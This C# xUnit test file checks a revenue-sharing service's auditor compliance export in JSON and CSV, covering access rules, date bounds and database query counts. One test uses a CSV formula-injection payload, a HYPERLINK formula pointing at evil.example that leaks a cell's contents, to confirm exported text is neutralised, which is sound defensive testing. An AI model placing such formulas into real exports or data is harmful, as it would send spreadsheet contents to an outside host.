using System.Collections.Concurrent;
using System.Diagnostics;
using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text.Json.Nodes;

namespace RevenueSharing.Tests;

/// <summary>services/RevenueSharing/README.md §7: a compliance row per deal for the auditor, as JSON and as CSV.</summary>
public class ComplianceApiTests(RevenueServiceFixture fixture) : IClassFixture<RevenueServiceFixture>
{
    [Fact]
    public async Task Rows_per_deal_as_json_and_csv()
    {
        var university = "comp-" + Guid.NewGuid().ToString("N")[..6];
        var dealId = await fixture.ConcludeDealAsync(RewardCalculationTests.WorkedExampleContributors, university: university);
        await fixture.Client("university", university).PostAsJsonAsync("/api/costs", new
        {
            dealId, category = "legal", amount = new { amount = "60000.00", currency = "CNY" }, incurredAt = DateTimeOffset.UtcNow, evidenceRef = "inv",
        });
        await fixture.Client("university", university).PostAsJsonAsync("/api/receipts", new
        {
            dealId, amount = new { amount = "1000000.00", currency = "CNY" }, receivedAt = DateTimeOffset.UtcNow, kind = "upfront", reference = "C-1",
        });
        var auditor = fixture.Client("auditor");
        var rows = JsonNode.Parse(await auditor.GetStringAsync($"/api/audit/compliance?university={university}"))!["items"]!.AsArray();
        var row = Assert.Single(rows)!;
        Assert.Equal("940000.00", row["netIncome"]!["amount"]!.GetValue<string>());
        Assert.Equal("658000.00", row["rewardDistributed"]!["amount"]!.GetValue<string>());
        Assert.Equal("0.7", row["shareOfNet"]!.GetValue<string>().TrimEnd('0'));
        Assert.True(row["compliant"]!.GetValue<bool>());

        var request = new HttpRequestMessage(HttpMethod.Get, $"/api/audit/compliance?university={university}");
        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("text/csv"));
        var csv = await auditor.SendAsync(request);
        Assert.Equal("text/csv", csv.Content.Headers.ContentType!.MediaType);
        var lines = (await csv.Content.ReadAsStringAsync()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.StartsWith("deal_id,university_id,concluded_on", lines[0]);
        Assert.Contains($"{dealId},{university},", lines[1]);
        Assert.Contains(",940000.00,658000.00,", lines[1]);

        // The last date there is: every deal up to it, not a 500 (the day after it does not exist).
        Assert.Single(JsonNode.Parse(await auditor.GetStringAsync($"/api/audit/compliance?university={university}&to=9999-12-31"))!["items"]!.AsArray());
        Assert.Single(JsonNode.Parse(await auditor.GetStringAsync($"/api/audit/compliance?university={university}&from=0001-01-01"))!["items"]!.AsArray());
        var tomorrow = DateTimeOffset.UtcNow.AddDays(2).ToString("yyyy-MM-dd", System.Globalization.CultureInfo.InvariantCulture);
        Assert.Empty(JsonNode.Parse(await auditor.GetStringAsync($"/api/audit/compliance?university={university}&from={tomorrow}"))!["items"]!.AsArray());
        Assert.Equal(HttpStatusCode.Forbidden, (await fixture.Client("university", university).GetAsync("/api/audit/compliance")).StatusCode);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")")]
    [InlineData("+SUM(1,2)")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1)")]
    public async Task A_text_field_a_spreadsheet_would_run_is_exported_as_text(string university)
    {
        var dealId = await fixture.ConcludeDealAsync(RewardCalculationTests.WorkedExampleContributors, university: university);
        var request = new HttpRequestMessage(HttpMethod.Get, $"/api/audit/compliance?university={Uri.EscapeDataString(university)}");
        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("text/csv"));
        var text = await (await fixture.Client("auditor").SendAsync(request)).Content.ReadAsStringAsync();
        var row = text.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Single(l => l.StartsWith(dealId.ToString(), StringComparison.Ordinal));
        var field = row[(dealId.ToString().Length + 1)..];
        Assert.StartsWith(field.StartsWith('"') ? "\"'" : "'", field); // quoted or not, the cell starts with a quote mark
        Assert.Contains(",0.00,0.00,", row); // amounts stay numbers
    }

    [Fact]
    public async Task The_report_reads_each_kind_of_record_once_however_many_deals_it_covers()
    {
        // A review found five queries per deal (the report built each account on its own): 10,000 deals made 50,000.
        var university = "comp-" + Guid.NewGuid().ToString("N")[..6];
        async Task AddDealsAsync(int count)
        {
            for (var i = 0; i < count; i++)
            {
                var dealId = await fixture.ConcludeDealAsync(RewardCalculationTests.WorkedExampleContributors, university: university);
                await fixture.Client("university", university).PostAsJsonAsync("/api/receipts", new
                {
                    dealId, amount = new { amount = "1000.00", currency = "CNY" }, receivedAt = DateTimeOffset.UtcNow, kind = "upfront", reference = $"R-{i}",
                });
            }
        }
        await AddDealsAsync(2);
        var few = await QueriesOfAsync($"/api/audit/compliance?university={university}", expectedRows: 2);
        await AddDealsAsync(4);
        var many = await QueriesOfAsync($"/api/audit/compliance?university={university}", expectedRows: 6);
        Assert.Equal(few, many);
    }

    /// <summary>The database commands one request ran: the Npgsql spans of the trace the request starts.</summary>
    private async Task<int> QueriesOfAsync(string path, int expectedRows)
    {
        var trace = ActivityTraceId.CreateRandom();
        var commands = new ConcurrentBag<string>();
        using var listener = new ActivityListener
        {
            ShouldListenTo = source => source.Name == "Npgsql",
            Sample = (ref ActivityCreationOptions<ActivityContext> _) => ActivitySamplingResult.AllData,
            ActivityStopped = activity => { if (activity.TraceId == trace) commands.Add(activity.DisplayName); },
        };
        ActivitySource.AddActivityListener(listener);
        var request = new HttpRequestMessage(HttpMethod.Get, path);
        request.Headers.Add("traceparent", $"00-{trace}-{ActivitySpanId.CreateRandom()}-01");
        var response = await fixture.Client("auditor").SendAsync(request);
        var rows = JsonNode.Parse(await response.Content.ReadAsStringAsync())!["items"]!.AsArray();
        Assert.Equal(expectedRows, rows.Count);
        Assert.NotEmpty(commands); // not a count that cannot fail: the request's own queries are seen
        return commands.Count;
    }
}
